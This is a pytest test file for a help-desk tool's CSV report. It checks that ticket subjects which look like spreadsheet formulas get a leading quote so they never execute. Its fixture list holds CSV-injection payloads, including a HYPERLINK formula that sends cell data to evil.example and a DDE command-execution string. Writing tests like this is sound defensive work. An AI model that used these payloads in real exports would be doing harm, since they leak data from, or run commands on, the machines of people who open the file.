"""``report --format csv`` opened in a spreadsheet: a reporter's subject never runs as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from maildesk.cli import main
from maildesk.desk.deadlines import keep_deadlines
from maildesk.reports.render import safe_cell
from maildesk.store.models import Message, Ticket
from tests.desk import desk_settings, make_app

TZ = ZoneInfo("Asia/Shanghai")
NOW = "2026-11-23T10:00:00+08:00"
# subjects an attacker mails in twice each, so that each becomes a recurring problem named after it
SUBJECTS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"查看发票")',
    "+cmd|' /C calc'!A0 打印机",
    "-2+3 显示器不亮",
    "@SUM(A1:A9) 键盘坏了",
    "\t=1+1 鼠标失灵",
    "\r=1+1 网络中断",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), (" =1+1", "' =1+1"), ("-1.5", "-1.5"), ("+3", "+3"), ("0.5", "0.5"), ("打印机", "打印机"),
    ("", ""), ("a=b", "a=b"),
])
def test_formula_starts_get_a_quote(cell: str, shown: str) -> None:
    """Cells starting with = + - @ tab or CR are quoted; numbers and ordinary text stay as they are."""
    assert safe_cell(cell) == shown


def test_csv_report_neutralises_subjects(tmp_path: Path, db_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Recurring problems named after formula-like subjects reach the CSV with a leading quote, intact otherwise."""
    app = make_app(tmp_path, desk_settings(db_url))
    app.upgrade()
    with app.store.session() as s:
        n = 0
        for subject in SUBJECTS:
            for _ in range(2):
                n += 1
                created = datetime(2026, 11, 17, 9, n, tzinfo=TZ)
                t = Ticket(number=f"TS-20261117-{n:04d}", subject=subject, status="new", priority="P3",
                           type="software", reporter="li.na@example.com", created_at=created, updated_at=created,
                           escalation_level=0, message_count=1)
                keep_deadlines(t, app.desk.targets, app.desk.calendar_on(created.date()), created)
                s.add(t)
                s.flush()
                s.add(Message(ticket_id=t.id, direction="in", message_id=f"<{t.number}@client>",
                              from_addr=t.reporter, subject=subject, text=subject, created_at=created))
    app.close()
    assert main(["-c", str(tmp_path / "maildesk.toml"), "report", "--format", "csv", "--now", NOW]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    titles = {r[1] for r in rows if r[0] == "recurring"}
    assert titles == {"'" + s.strip() for s in SUBJECTS}  # titles are subjects without outer blanks
    assert [c for r in rows for c in r if c.startswith(FORMULA_START)] == []
